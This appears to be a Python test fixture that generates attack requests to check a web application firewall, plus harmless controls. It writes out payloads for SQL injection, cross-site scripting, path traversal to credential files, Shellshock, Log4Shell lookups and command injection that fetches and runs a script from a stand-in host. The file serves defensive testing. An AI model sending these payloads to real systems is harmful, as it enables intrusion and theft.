"""Attacks on the paths that every app can reach, as scanners and people send them; the firewall must refuse each."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from urllib.parse import quote

NOT_IN_NAMES = ("remote file",)
PATHS = ("/v1/feed", "/v1/events/batch", "/v1/search", "/v1/me/events")
STORIES = "/v1/stories"
"""A path of free text: rules that mistake ordinary text for an attack only log there. The attacks below are still
refused."""
REFUSED_IN_STORIES = ("cross-site scripting", "path traversal", "Log4Shell", "header injection")
VALUES: Mapping[str, tuple[str, ...]] = {
    "SQL injection": (
        "' OR 1=1--",
        "1' UNION SELECT username, password FROM users--",
        "1; DROP TABLE videos",
        "1 AND SLEEP(5)",
        "admin'/*",
        "1' AND (SELECT COUNT(*) FROM information_schema.tables) > 0--",
        "'; EXEC xp_cmdshell('dir')--",
        "1 WAITFOR DELAY '0:0:5'",
    ),
    "cross-site scripting": (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '"><svg/onload=alert(document.cookie)>',
        "javascript:alert(document.domain)",
        "<iframe src=javascript:alert(1)>",
    ),
    "path traversal": (
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/etc/shadow",
        "....//....//etc/passwd",
        "/proc/self/environ",
    ),
    "command injection": (
        "; cat /etc/passwd",
        "| id; uname -a",
        "$(curl http://evil.example/x.sh | sh)",
        "`wget http://evil.example/x`",
        "& ping -n 10 127.0.0.1",
        "() { :;}; /bin/bash -c 'id'",
    ),
    "Log4Shell": (
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
        "${jndi:dns://evil.example}",
    ),
    "remote file": ("http://198.51.100.7/shell.txt?", "https://evil.example/shell.php"),
    "PHP and templates": (
        "<?php system('id'); ?>",
        "php://filter/convert.base64-encode/resource=index.php",
        "constructor.constructor('return process')().mainModule.require('child_process').exec('id')",
    ),
    "header injection": ("x\r\nSet-Cookie: session=1", "x\r\nLocation: https://evil.example"),
}
AGENTS = (
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Nessus SOAP v0.0.1 (Nessus.org)",
    "w3af.org",
    "Acunetix-Scanner",
    "() { :;}; /bin/bash -c 'cat /etc/passwd'",
)
"""A rule missing from the public set refuses Log4Shell in a header (944240 of Microsoft's)."""
URLS = (
    "/v1/feed/../../etc/passwd",
    "/v1/feed/..%2f..%2f..%2fetc%2fpasswd",
    "/v1/feed/%2e%2e/%2e%2e/etc/passwd",
    "/v1/events/..%5c..%5cwindows%5cwin.ini",
    "/v1/events/../../.git/config",
    "/v1/feed/.env",
    "/v1/events/batch/web.config",
    "/v1/stories/..%2f..%2f..%2fetc%2fpasswd",
    "/v1/stories/.git/config",
    "/v1/follow/..%2f..%2fetc%2fpasswd",
    "/v1/blocks/%2e%2e/%2e%2e/etc/passwd",
    "/v1/uploads/web.config",
    "/v1/debug/user-signals",
    "/V1/%64ebug/user-signals",
    "/v1//debug/user-signals",
    "/admin/host/status",
    "/runtime/webhooks/x",
    "/wp-login.php",
    "/.git/config",
    "/cgi-bin/test.cgi",
)


@dataclass(frozen=True)
class Attack:
    """One request. `path` is percent-encoded as it is to be sent."""

    kind: str
    method: str
    path: str
    headers: Mapping[str, str] = field(default_factory=dict)
    body: bytes | None = None


def attacks() -> Iterator[Attack]:
    """Yield each attack in a query on each path, as a value and as a name; and in URLs, methods and user agents."""
    for kind, values in VALUES.items():
        for value in values:
            for path in PATHS:
                yield _on(path, kind, f"country={quote(value, safe='')}")
                if kind not in NOT_IN_NAMES:
                    yield _on(path, f"{kind}, in a name", f"{quote(value, safe='')}=1")
    for kind in REFUSED_IN_STORIES:
        for value in VALUES[kind]:
            yield _on(STORIES, kind, f"limit={quote(value, safe='')}")
    for agent in AGENTS:
        for path in (*PATHS, STORIES):
            yield _on(path, "user agent", "", agent)
    for url in URLS:
        yield Attack("URL", "GET", url)
    yield Attack("method", "TRACE", "/v1/feed")
    yield Attack("method", "DEBUG", "/v1/events/batch")


def harmless() -> Iterator[Attack]:
    """Yield the same requests without an attack: these must pass, or the attacks prove nothing."""
    for path in (*PATHS, STORIES):
        yield _on(path, "harmless", "country=DE")
        yield _on(path, "harmless", "anything=1")
        yield _on(path, "harmless", "", "app/1.0")


def _on(path: str, kind: str, query: str, agent: str = "app/1.0") -> Attack:
    headers, path_and_query = {"User-Agent": agent, "Accept": "*/*"}, f"{path}?{query}" if query else path
    if not path.endswith("batch"):
        return Attack(kind, "GET", path_and_query, headers)
    return Attack(kind, "POST", path_and_query, {**headers, "Content-Type": "application/json"}, b'{"events": []}')


def in_events() -> Iterator[dict[str, object]]:
    """The same attacks as video ids of events. Batch bodies are not inspected, so the app must accept none of these."""
    for values in VALUES.values():
        for value in values:
            yield {"type": "like", "videoId": value}
            yield {"type": value, "videoId": "vid_1"}
            yield {"type": "like", "videoId": "vid_1", "timestamp": value}
